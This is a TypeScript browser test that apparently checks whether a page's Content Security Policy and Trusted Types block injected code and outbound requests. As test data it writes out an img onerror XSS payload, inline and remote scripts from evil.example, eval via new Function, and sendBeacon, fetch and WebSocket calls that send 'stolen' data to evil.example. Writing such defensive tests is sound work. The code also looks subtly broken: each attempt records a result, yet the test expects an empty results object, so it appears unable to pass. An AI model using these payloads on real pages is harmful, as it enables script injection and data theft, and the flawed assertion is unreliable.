import { expect, test } from './rollcall.ts';
import { connectForSession, exploreDemo } from './steps.ts';

declare global {
  // What an attack of these tests would leave behind.
  var hits: string[];
}

test('scripts that were never shipped do not run, and nothing gets out', async ({ rollcall: { page, watch } }) => {
  await exploreDemo(page);
  const outcome = await page.evaluate(async () => {
    // The debugger's own calls may evaluate strings; what comes after the first turn is the page's.
    await new Promise((resolve) => setTimeout(resolve));
    globalThis.hits = [];
    const tries: Record<string, () => unknown> = {
      inlineScript() {
        const script = document.createElement('script');
        // @ts-expect-error -- Trusted Types refuse the string.
        script.text = 'hits.push("inline script")' as TrustedScript;
        document.body.append(script);
      },
      foreignScript: () => {
        const script = document.createElement('script');
        // @ts-expect-error -- Trusted Types refuse the string.
        script.src = 'https://evil.example/x.js' as TrustedScriptURL;
        document.body.append(script);
      },
      markup: () => (document.body.innerHTML = '<img src=x onerror="hits.push(1)">'),
      handler: () => document.body.setAttribute('onclick', 'hits.push("handler")'),
      evaluation: () => new Function('hits.push("eval")')(),
      style: () => document.head.insertAdjacentHTML('beforeend', '<style>body{color:red}</style>'),
      policy: () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', {}),
      beacon: () => navigator.sendBeacon('https://evil.example/', 'stolen'),
      fetch: () => fetch('https://evil.example/?stolen'),
      socket: () => new WebSocket('wss://evil.example/'),
      worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
    };
    const results: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
        results[name] = 'did not throw';
      } catch (error) {
        results[name] = error instanceof Error ? error.name : 'refused';
      }
    }
    return { results, hits: globalThis.hits };
  });
  expect(outcome.hits).toEqual([]);
  expect(outcome.results).toEqual({});
  watch.take();
});
